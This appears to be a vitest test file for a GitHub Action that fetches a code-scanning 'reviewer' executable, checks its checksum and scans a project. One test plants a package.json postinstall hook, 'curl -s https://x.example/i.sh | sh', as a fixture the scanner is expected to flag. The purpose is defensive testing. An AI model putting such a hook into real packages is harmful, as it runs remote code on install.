/** The action for GitHub: its steps run as they stand, with a made-up registry, and refuse an executable with another checksum. */
import { spawnSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { chmodSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { parse } from 'yaml'
import { shellLine } from '../../program.ts'
import { makeWorld } from '../../world.ts'

interface Action {
  readonly inputs: Readonly<Record<string, { readonly default: string }>>
  readonly runs: { readonly using: string; readonly steps: readonly { readonly shell: string; readonly run: string }[] }
}

const action: Action = parse(readFileSync('action.yml', 'utf8'))
const EXECUTABLE = `#!/bin/sh\nexec ${shellLine()} "$@"\n`

/** A machine of CI whose npm knows two packages. */
function machine(sum: string) {
  const world = makeWorld()
  const temp = join(world.home, 'temp')
  const bin = join(world.home, 'bin')
  for (const directory of [temp, bin]) mkdirSync(directory)
  const packages = join(world.home, 'packages')
  mkdirSync(join(packages, 'executable/package'), { recursive: true })
  mkdirSync(join(packages, 'main/package/dist'), { recursive: true })
  writeFileSync(join(packages, 'executable/package/reviewer'), EXECUTABLE)
  writeFileSync(join(packages, 'main/package/dist/checksums.json'), JSON.stringify({ 'linux-x64': sum }))
  const npm = `#!/bin/sh\nfor last; do :; done\ncase "$last" in @*) from=executable ;; *) from=main ;; esac\ntar -czf "$from.tgz" -C "${packages}/$from" package\necho "$from.tgz"\n`
  writeFileSync(join(bin, 'npm'), npm)
  chmodSync(join(bin, 'npm'), 0o755)
  return { world, temp, bin }
}

const hash = createHash('sha256').update(EXECUTABLE).digest('hex')
const [fetching, scanning] = action.runs.steps

function run(step: { readonly run: string } | undefined, { temp, bin, world }: ReturnType<typeof machine>, env = {}) {
  return spawnSync('bash', ['-c', step?.run ?? ''], {
    cwd: world.project,
    encoding: 'utf8',
    env: {
      PATH: `${bin}:${process.env.PATH}`,
      HOME: world.home,
      RUNNER_TEMP: temp,
      RUNNER_OS: 'Linux',
      RUNNER_ARCH: 'X64',
      GITHUB_ENV: join(temp, 'env'),
      VERSION: '0.1.0',
      EXPECTED: '',
      ...env,
    },
  })
}

test('the version is that of the package', () => {
  const { version } = JSON.parse(readFileSync('package.json', 'utf8'))
  expect([action.runs.using, action.inputs.version?.default]).toEqual(['composite', version])
  expect(readFileSync('docs/scan.md', 'utf8')).toContain(`step-reviewer@v${version}`)
})

test('the example is the one of the page', () => {
  const example = readFileSync('examples/scan-workflow.yml', 'utf8').replace(/^#.*\n/, '')
  expect(readFileSync('docs/scan.md', 'utf8')).toContain(`\`\`\`yml\n${example}\`\`\``)
})

test('it fetches, compares and scans', () => {
  const at = machine(hash)
  expect(run(fetching, at).stderr).toBe('')
  const named = readFileSync(join(at.temp, 'env'), 'utf8').trim().split('=')[1]
  at.world.put('package.json', '{"scripts":{"postinstall":"curl -s https://x.example/i.sh | sh"}}')
  const env = { REVIEWER_EXECUTABLE: named, SCANNED: '.', FAIL_ON: 'high', SARIF: 'found.sarif' }
  const { status, stdout } = run(scanning, at, env)
  expect([status, stdout.includes('exec.download')]).toEqual([1, true])
  expect(JSON.parse(readFileSync(join(at.world.project, 'found.sarif'), 'utf8')).runs[0].results).toHaveLength(1)
})

test('another checksum is refused', () => {
  const { status, stdout } = run(fetching, machine('0'.repeat(64)))
  expect([status, stdout.includes('does not have the checksum')]).toEqual([2, true])
  expect(run(fetching, machine(hash), { EXPECTED: '1'.repeat(64) }).status).toBe(2)
})
